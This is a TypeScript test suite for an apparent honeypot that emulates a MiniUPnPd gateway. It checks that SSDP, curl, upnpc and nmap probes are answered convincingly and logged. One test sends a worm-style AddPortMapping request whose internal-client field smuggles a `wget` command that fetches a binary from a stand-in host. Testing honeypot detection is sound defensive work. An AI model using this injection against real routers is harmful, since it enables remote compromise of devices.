import assert from 'node:assert/strict'
import dgram from 'node:dgram'
import { once } from 'node:events'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

const ofAction = (action: string) => (event: Event) => event.skep.service === 'ssdp' && event.event.action === action

describe('UPnP, with real clients', () => {
  let skep: Skep
  let http: string
  before(async () => {
    skep = await startSkep({
      config: 'persona: { os: debian-12 }\nedition: mini\nservices: { ssdp: { enabled: true } }\n',
    })
    http = `http://127.0.0.1:${5000 + skep.offset}`
  })
  after(() => skep?.stop())

  test('a search is answered with no more than it brought, and finds the description', async () => {
    const socket = dgram.createSocket('udp4')
    const search =
      'M-SEARCH * HTTP/1.1\r\nHOST:239.255.255.250:1900\r\nST:upnp:rootdevice\r\nMAN:"ssdp:discover"\r\nMX:3\r\n\r\n'
    socket.send(search, 1900 + skep.offset, '127.0.0.1')
    const [answer] = (await once(socket, 'message')) as [Buffer]
    socket.close()
    assert.ok(answer.length <= search.length)
    assert.equal(/^LOCATION:(\S+)\r$/m.exec(String(answer))![1], `${http}/rootDesc.xml`)
    await skep.eventually(ofAction('reflection'), 1, 30)
  })
  test('curl reads the description', { skip: missing('curl') }, async () => {
    const { out } = await runClient('curl', ['-sS', '-i', `${http}/rootDesc.xml`])
    assert.match(
      out,
      /^HTTP\/1\.1 200 OK\r\n[\s\S]*Server: Debian\/6\.1\.0-\d+-(?:cloud-)?amd64 UPnP\/1\.1 MiniUPnPd\/2\.3\.1/,
    )
    assert.match(out, /<deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:2</)
    await skep.eventually(ofAction('request'))
  })
  describe('upnpc', { skip: missing('upnpc') }, () => {
    const upnpc = async (...args: string[]) => {
      const { out, err } = await runClient('upnpc', ['-u', `${http}/rootDesc.xml`, ...args])
      return out + err
    }
    test('sees the state of the gateway', async () => {
      const out = await upnpc('-s')
      assert.match(out, /Status : Connected/)
      assert.match(out, /ExternalIPAddress = 127\.0\.0\.1/)
    })
    test('makes a mapping, lists it, takes it away', async () => {
      assert.match(await upnpc('-a', '192.0.2.10', '80', '8080', 'TCP'), /is redirected to internal 192\.0\.2\.10:80/)
      assert.match(await upnpc('-l'), /0 TCP +8080->192\.0\.2\.10:80/)
      await upnpc('-d', '8080', 'TCP')
      assert.doesNotMatch(await upnpc('-l'), /8080->/)
      const [mapping] = await skep.eventually(ofAction('exploit'))
      assert.equal((mapping as unknown as { vulnerability: { id: string } }).vulnerability.id, 'upnp-port-mapping')
    })
  })
  test('a worm’s command in a mapping leaves its URL', { skip: missing('curl') }, async () => {
    const body =
      '<NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`cd /tmp; wget http://192.0.2.31/mips`</NewInternalClient>'
    const header = 'SOAPAction: "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"'
    await runClient('curl', ['-sS', '-H', header, '--data', body, `${http}/ctl/IPConn`])
    const fetched = (event: Event) =>
      ofAction('file-download')(event) &&
      (event as { url?: { original: string } }).url?.original === 'http://192.0.2.31/mips'
    await skep.eventually(fetched)
  })
  test('nmap names the product', { skip: missing('nmap') }, async () => {
    const { out } = await runClient('nmap', ['-Pn', '-n', '-sV', '-p', String(5000 + skep.offset), '127.0.0.1'], {
      seconds: 150,
    })
    // The kernel's name in the product's own is more than its pattern for Debian expects: then it says what its table calls the port.
    assert.match(out, /open +(?:upnp +MiniUPnP|unknown|\S+\?)/, out)
    assert.match(out, /MiniUPnP/)
    assert.doesNotMatch(out, /honey|skep/i)
  })
})
